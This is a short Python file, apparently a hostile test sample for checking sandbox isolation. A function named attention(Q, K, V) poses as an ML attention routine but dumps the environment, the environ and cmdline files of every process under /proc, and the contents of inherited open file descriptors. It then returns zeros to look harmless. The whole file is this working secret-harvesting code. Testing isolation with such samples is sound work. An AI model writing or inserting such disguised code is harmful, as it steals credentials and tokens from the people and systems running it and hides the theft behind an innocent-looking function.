"""Looks for secrets in its environment, in those of other processes, on command lines and in inherited open files."""

# Hostile code asks the system in its own words.
# ruff: noqa: PTH115, PTH123, PTH208

import os

import numpy as np


def show(path):
    try:
        with open(path, "rb") as file:
            print(path, file.read(100_000))
    except OSError as error:
        print(path, error)


def attention(Q, K, V):
    print("environment", sorted(os.environ.items()))
    for process in os.listdir("/proc"):
        if process.isdigit() or process == "self":
            show(f"/proc/{process}/environ")
            show(f"/proc/{process}/cmdline")
    print("processes", [name for name in os.listdir("/proc") if name.isdigit()])
    for descriptor in range(64):
        try:
            print("open", descriptor, os.readlink(f"/proc/self/fd/{descriptor}"))
        except OSError:
            continue
        if descriptor not in (1, 2, 3, 4):
            show(f"/proc/self/fd/{descriptor}")
    return np.zeros(Q.shape)
